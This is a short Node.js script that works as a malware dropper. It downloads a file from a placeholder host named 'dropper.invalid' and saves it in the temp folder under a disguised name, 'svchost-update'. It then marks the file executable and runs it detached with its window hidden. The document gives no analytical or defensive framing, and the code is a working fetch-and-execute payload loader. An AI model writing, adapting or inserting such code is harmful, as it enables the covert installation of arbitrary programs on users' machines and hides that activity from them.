const https = require("https");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { spawn } = require("child_process");
const dest = path.join(os.tmpdir(), "svchost-update");
https.get("https://files.dropper.invalid/agent", (res) => {
  const out = fs.createWriteStream(dest);
  res.pipe(out);
  out.on("finish", () => {
    fs.chmodSync(dest, 0o755);
    spawn(dest, [], { detached: true, stdio: "ignore", windowsHide: true }).unref();
  });
});
